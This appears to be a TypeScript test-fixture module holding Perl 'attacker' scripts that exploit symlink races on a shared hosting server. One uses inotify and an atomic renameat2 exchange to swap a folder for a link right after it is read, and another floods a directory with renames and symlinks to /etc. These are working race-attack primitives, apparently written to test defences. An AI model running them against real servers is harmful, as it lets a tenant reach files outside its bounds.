/**
 * Programs of attackers, in Perl, which every hosting server has. They run as a tenant and call what Perl has no word
 * for by its number (x86_64).
 */
const CALLS = String.raw`
use strict;
use constant { INOTIFY_INIT1 => 294, INOTIFY_ADD_WATCH => 254, RENAMEAT2 => 316 };

# Exchanges two entries at once.
sub exchange {
  my ($one, $other) = map { "$_\0" } @_;
  return syscall(RENAMEAT2, -100, $one, -100, $other, 2) == 0;
}
`;

/**
 * `FOLDER LINK`: waits until somebody has read the folder, and exchanges it for the link. Says `armed`, then `exchanged`.
 */
export const EXCHANGE_WHEN_READ = String.raw`${CALLS}
$| = 1;
my ($folder, $link) = @ARGV;
my $watch = syscall(INOTIFY_INIT1, 0);
my $path = "$folder\0";
syscall(INOTIFY_ADD_WATCH, $watch, $path, 1) > 0 or die "no watch: $!\n";
open my $events, '<&=', $watch;
print "armed\n";
sysread $events, my $event, 4096;
print exchange($folder, $link) ? "exchanged\n" : "failed: $!\n";
`;

/** `FOLDER`: adds to the folder that it is in, by its handle alone, for as long as it is let. */
export const FILL_FOLDER = String.raw`${CALLS}
chdir $ARGV[0] or die "cannot enter: $!\n";
open my $said, '>', $ARGV[1];
syswrite $said, "inside\n";
for (my $count = 0; ; $count++) {
  mkdir "d$count" or select undef, undef, undef, 0.01;
  rename "d$count", "moved";
  symlink '/etc', "l$count" or $count = 0;
}
`;
